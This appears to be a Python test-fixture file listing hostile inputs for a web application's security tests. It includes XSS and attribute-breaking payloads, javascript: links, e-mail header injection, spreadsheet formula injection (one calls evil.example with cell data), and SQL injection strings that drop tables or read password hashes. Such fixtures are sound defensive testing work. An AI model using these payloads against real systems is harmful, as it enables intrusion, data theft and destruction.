"""Hostile values sent through every form, API parameter and import format.

Every payload that could run script carries MARKER, so a test can tell an injected element
or handler from our own markup: whatever the channel, MARKER may appear as text, never in
an element's id, class, style, event handler or script.
"""

MARKER = "XSSMARK"

# Script that runs if the text is ever interpreted as HTML.
SCRIPT = [
    f"<script>window.__xss='{MARKER}';alert('{MARKER}')</script>",
    f"<ScRiPt >alert('{MARKER}')</sCrIpT>",
    f"<svg id={MARKER} onload=alert('{MARKER}')>",
    f"<iframe id={MARKER} srcdoc=\"<script>parent.alert('{MARKER}')</script>\"></iframe>",
]
# Break out of an attribute, a textarea, a title or a script string.
ATTRIBUTE_BREAKERS = [
    f"\"><img src=x id={MARKER} onerror=alert('{MARKER}')>",
    f"'><img src=x id={MARKER} onerror=alert('{MARKER}')>",
    f"\" autofocus onfocus=\"alert('{MARKER}')\" x=\"",
    f"</textarea><img src=x id={MARKER} onerror=alert('{MARKER}')>",
    f"</title><img src=x id={MARKER} onerror=alert('{MARKER}')>",
    f"</script><img src=x id={MARKER} onerror=alert('{MARKER}')>",
    f"';alert('{MARKER}');//",
    "{{ 7*7 }}{% raw %}${7*7}",
]
# javascript: and data: links, disguised, in Markdown.
MARKDOWN_LINKS = [
    f"[clic](javascript:alert('{MARKER}'))",
    f"[clic](JaVaScRiPt:alert('{MARKER}'))",
    f"[clic]( javascript:alert('{MARKER}'))",
    f"[clic](java\tscript:alert('{MARKER}'))",
    f"[clic](&#106;avascript:alert('{MARKER}'))",
    f"[clic](javascript&colon;alert('{MARKER}'))",
    f"[clic](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert('{MARKER}'))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[clic](vbscript:msgbox('{MARKER}'))",
    f"![image](javascript:alert('{MARKER}'))",
    f"<javascript:alert('{MARKER}')>",
    f"[clic][ref]\n\n[ref]: javascript:alert('{MARKER}')",
    f"<a href=\"javascript:alert('{MARKER}')\" id={MARKER}>clic</a>",
    f"<img src=x id={MARKER} onerror=alert('{MARKER}')>",
    f"[clic](https://example.org/\"onmouseover=\"alert('{MARKER}'))",
]
# The same tricks in a URL field, which must hold an http(s) address.
URLS = [
    f"javascript:alert('{MARKER}')",
    f"JAVASCRIPT:alert('{MARKER}')",
    f" javascript:alert('{MARKER}')",
    f"\tjavascript:alert('{MARKER}')",
    f"java\tscript:alert('{MARKER}')",
    f"&#106;avascript:alert('{MARKER}')",
    f"\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert('{MARKER}')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:msgbox('{MARKER}')",
    "//evil.example/",
    f"https://example.org/\"><img src=x id={MARKER} onerror=alert('{MARKER}')>",
    f"https://example.org/'onmouseover='alert(\"{MARKER}\")",
]
# Header injection through an e-mail address.
EMAILS = [
    "proposer@example.org\r\nBcc: victim@example.org",
    "proposer@example.org\nSubject: spam",
    "proposer@example.org%0d%0aBcc:victim@example.org",
    "\"a\r\n\"@example.org",
    "proposer@example.org\x00",
    f"\"><img src=x id={MARKER} onerror=alert('{MARKER}')>@example.org",
]
# A spreadsheet runs a cell starting with these as a formula.
CSV_FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "'=1+1",
]
# SQL-looking strings, for every text field, filter and sort parameter.
SQL = [
    "' OR '1'='1",
    "\"; DROP TABLE initiatives; --",
    "1) UNION SELECT email, password_hash FROM users --",
    "%' AND 1=1 AND '%'='",
    "1; SELECT pg_sleep(5); --",
    "' || (SELECT sqlite_version()) || '",
    "name DESC; DELETE FROM users",
    "\\'; --",
]
# Coordinates that are not, or not in range, or the wrong way round (lat, lon).
COORDINATES = [
    ("NaN", "46.43"), ("nan", "nan"), ("Infinity", "46.43"), ("-Infinity", "-Infinity"),
    ("1e309", "46.43"), ("181", "46.43"), ("4.66", "-91"), ("46.43", "4.66"),
    ("0x10", "46.43"), ("", "46.43"), ("4.66", ""), ("4,66,1", "46.43"),
    ("\uff14.66", "46.43"), ("4.66\x00", "46.43"), ("9" * 400, "46.43"),
]
# Unicode that hides or reorders text, and characters no database takes.
UNICODE = [
    "Atelier \u202egnp.exe\u202c officiel",
    "Ate\u200blier\u200c \u200dpartagé\ufeff",
    "\u2066Atelier\u2069 \u061c\u200f",
    "nul \x00 byte",
    "lone \ud800 surrogate",
    "back\x08space \x1b[31mescape\x1b[0m \x7f",
    "ligne\u2028séparateur\u2029paragraphe",
    "Ｆｕｌｌｗｉｄｔｈ ＜script＞",
]
# Lines that would end a header or start another in a plain-text e-mail.
LINE_BREAKS = [
    "Atelier\r\nBcc: victim@example.org",
    "Atelier\n\nCorps du message injecté",
    "Atelier\rSubject: spam",
]

TEXT_PAYLOADS = [*SCRIPT, *ATTRIBUTE_BREAKERS, *MARKDOWN_LINKS, *CSV_FORMULAS, *SQL, *UNICODE,
                 *LINE_BREAKS]


def huge(size: int, unit: str = "a") -> str:
    """A string of the given length (1 MB titles, 10 MB descriptions)."""
    return unit * size


def short_id(value: str) -> str:
    """A readable pytest id for a payload."""
    printable = "".join(char if char.isprintable() and char.isascii() else "?" for char in value)
    return printable[:40] or "empty"
